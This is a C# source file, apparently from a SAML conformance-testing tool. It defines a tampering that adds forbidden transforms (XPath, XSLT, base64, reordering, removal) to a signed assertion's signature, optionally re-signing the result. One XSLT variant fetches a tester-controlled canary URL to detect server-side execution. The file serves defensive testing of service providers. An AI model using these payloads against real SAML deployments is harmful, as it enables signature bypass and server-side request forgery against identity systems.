using System.Xml;
using Conformance.Saml.Forging;
using Conformance.Saml.Names;
using Conformance.Saml.Potency;
using Conformance.Saml.Signing;

namespace Conformance.Saml.Tamperings.Attacks;

/// <summary>Transforms that SAML does not allow in a signature, core 5.4.4.</summary>
internal sealed class TransformsAttack(TamperingArguments arguments) : Tampering
{
    private const string Ds = SamlNamespaces.XmlSignature;

    public static CatalogueEntry Entry { get; } = new(
        new TamperingDescription(
            "transforms",
            "Adds a transform that SAML does not allow in front of the others. Signed by the IdP it changes nothing "
            + "and is only not allowed; unsigned, an SP that runs transforms before it checks the SignedInfo is shown.",
            "The transform stands in the Reference; signed, the SignedInfo verifies under the IdP's key, else not.",
            [
                new("kind", "XPath that selects everything, XPath filter 2.0, XSLT that copies, XSLT that fetches from "
                    + "the canary, base64, the IdP's own in other order, none.",
                    ["xpath", "xpath-filter2", "xslt", "xslt-canary", "base64", "reversed", "none"]),
                new("signed", "Whether the IdP signs the changed SignedInfo.", ["yes", "no"]),
            ]),
        arguments => new TransformsAttack(arguments));

    public override string Name => "transforms";

    public override void AfterSigning(Workpiece work)
    {
        var signature = Dom.Signature(SignedPlaces.Outermost(work))!;
        var transforms = XmlSigner.Descendant(signature, "Transforms");
        switch (arguments.Text("kind"))
        {
            case "none":
                transforms.ParentNode!.RemoveChild(transforms);
                break;
            case "reversed":
                transforms.AppendChild(transforms.FirstChild!);
                break;
            default:
                Add(transforms, work.Context);
                break;
        }

        if (arguments.Text("signed") == "yes")
        {
            XmlSigner.Resign(signature, SignatureTemplate.From(work.Draft));
            work.Claim(new SignedInfoStands());
        }
        else
        {
            work.Claim(new NotVouchedFor(SignedPlaces.Outermost(work).LocalName.ToLowerInvariant()));
        }
    }

    private void Add(XmlElement transforms, ForgeContext context)
    {
        var (algorithm, content) = arguments.Text("kind") switch
        {
            "xpath" => (CanonicalizationAlgorithms.XPath, "<ds:XPath>true()</ds:XPath>"),
            "xpath-filter2" => (CanonicalizationAlgorithms.XPathFilter2,
                "<f:XPath xmlns:f=\"http://www.w3.org/2002/06/xmldsig-filter2\" Filter=\"union\">/</f:XPath>"),
            "xslt" => (CanonicalizationAlgorithms.Xslt, Stylesheet("<xsl:copy-of select=\"/\"/>")),
            "xslt-canary" => (CanonicalizationAlgorithms.Xslt, Stylesheet(
                $"<xsl:copy-of select=\"document('{Canary.Url(context, "xslt")}')\"/>")),
            _ => (CanonicalizationAlgorithms.Base64, ""),
        };
        var transform = transforms.OwnerDocument.CreateElement(transforms.Prefix, "Transform", Ds);
        transform.SetAttribute("Algorithm", algorithm);
        transforms.PrependChild(transform);
        foreach (var node in Edits.KnownPrefixes.Parse(content, transforms.OwnerDocument))
        {
            transform.AppendChild(node);
            Edits.KnownPrefixes.Declare(node);
        }
    }

    private static string Stylesheet(string body) =>
        "<xsl:stylesheet xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\" version=\"1.0\"><xsl:template match=\"/\">"
        + body + "</xsl:template></xsl:stylesheet>";
}
